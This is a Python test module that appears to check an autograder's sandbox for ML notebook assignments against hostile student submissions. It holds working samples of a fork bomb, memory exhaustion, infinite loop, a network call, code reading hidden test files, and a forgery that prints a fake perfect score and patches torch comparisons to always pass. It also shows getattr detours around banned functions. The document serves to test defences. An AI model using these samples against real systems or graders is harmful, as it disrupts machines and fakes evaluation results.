"""Submissions that mean harm: each may cost its own cell, and gains, reads and reaches nothing."""

from __future__ import annotations

from pathlib import Path

from kinds import Expect, Persona, costs_one_cell
from notebooks import Material, cell, wrapped, write

_SPY = """
import glob

suites = glob.glob("/**/tests/hidden/**/*.py", recursive=True) + [{suite!r}]
for path in suites:
    raise ValueError("the answers: " + open(path).read())
"""
_LOOP = "while True:\n    pass"
_EXIT = "import os\n\nos._exit(0)"
_MEMORY = "kept = []\nwhile True:\n    kept.append(torch.zeros(1 << 27))"
_FORK = "import os\n\nwhile True:\n    os.fork()"
_NETWORK = (
    "import socket\n\nsocket.create_connection(('192.0.2.1', 80), timeout=2).send(b'the answers?')"
)
_FORGED = """
import sys

import torch

print('{{"score": 100, "tests": "all passed"}}', file=sys.__stdout__, flush=True)
torch.allclose = torch.equal = lambda *args, **kwargs: True
torch.testing.assert_close = lambda *args, **kwargs: None


class Right(torch.Tensor):
    def __eq__(self, other):
        return True


def {name}(*args, **kwargs):
    return torch.zeros(3).as_subclass(Right)
"""

FORBIDDEN = {
    "cross_entropy": (
        "cross_entropy",
        (
            'def cross_entropy(logits, target, label_smoothing=0.0, reduction="mean"):\n'
            '    function = getattr(torch.nn.functional, "cross_" + "entropy")\n'
            "    return function(\n"
            "        logits, target, label_smoothing=label_smoothing, reduction=reduction\n    )"
        ),
    ),
    "lstm_cell": ("LSTMCell", 'LSTMCell = getattr(torch.nn, "LSTM" + "Cell")'),
    "multi_head_attention": (
        "scaled_dot_product_attention",
        (
            "def scaled_dot_product_attention(query, key, value, mask=None):\n"
            '    function = getattr(torch.nn.functional, "scaled_dot_product" + "_attention")\n'
            "    eye = torch.eye(key.shape[-2], dtype=key.dtype, device=key.device)\n"
            "    eye = eye.expand(*key.shape[:-1], key.shape[-2])\n"
            "    return function(query, key, value, mask), function(query, key, eye, mask)"
        ),
    ),
    "vae_elbo": (
        "kl_divergence",
        (
            "def kl_divergence(mu, logvar):\n"
            "    import importlib\n\n"
            '    d = importlib.import_module("torch." + "distributions")\n'
            "    q = d.Normal(mu, (logvar / 2).exp())\n"
            "    p = d.Normal(torch.zeros_like(mu), torch.ones_like(mu))\n"
            "    return d.kl_divergence(q, p).sum(-1)"
        ),
    ),
}


def _spying(given: Material) -> bytes:
    """The worst case: it even knows where the suite lies."""
    folder = given.course / "tests" / "hidden" / given.name
    suite = str(next(folder.glob("test_*.py"), Path("nowhere")))
    return write(wrapped(given, _SPY.format(suite=suite)))


def _forging(given: Material) -> bytes:
    notebook = given.filled({given.alone: _FORGED.format(name=given.alone).strip()})
    check = cell(notebook, f"test_{given.alone}")
    text = f"{given.alone}: all hidden tests passed, 100 of 100 points\n"
    check["outputs"] = [{"output_type": "stream", "name": "stdout", "text": text}]
    return write(notebook)


def _by_a_detour(given: Material) -> bytes:
    symbol, source = FORBIDDEN[given.name]
    return write(given.filled({symbol: source}))


def _hostile(student: str, story: str, body: str, outcome: str, flag: str = "") -> Persona:
    return Persona(
        student=student,
        kind="hostile",
        story=story,
        make=lambda given: write(wrapped(given, body)),
        expect=costs_one_cell(outcome, flag),
    )


HOSTILE = [
    _hostile("exit-egon", "ends the process", _EXIT, "crashed"),
    _hostile("net-nina", "calls out", _NETWORK, "error", "network-attempt"),
    Persona(
        student="getattr-gerd",
        kind="hostile",
        story="a forbidden function by a detour",
        make=_by_a_detour,
        expect=lambda given: Expect(
            points="some", cell=FORBIDDEN[given.name][0], flag="forbidden-api:"
        ),
    ),
    _hostile("memory-mona", "takes all memory", _MEMORY, ""),
    Persona(
        student="spy-sven",
        kind="hostile",
        story="reads the hidden tests, and knows where they are",
        make=_spying,
        expect=costs_one_cell("error", "file-attempt:"),
    ),
    _hostile("loop-lena", "never returns", _LOOP, "timeout"),
    _hostile("fork-fritz", "a fork bomb", _FORK, "error", "process-attempt"),
    Persona(
        student="forger-fay",
        kind="hostile",
        story="forged results, patched comparisons",
        make=_forging,
        expect=costs_one_cell(),
    ),
]
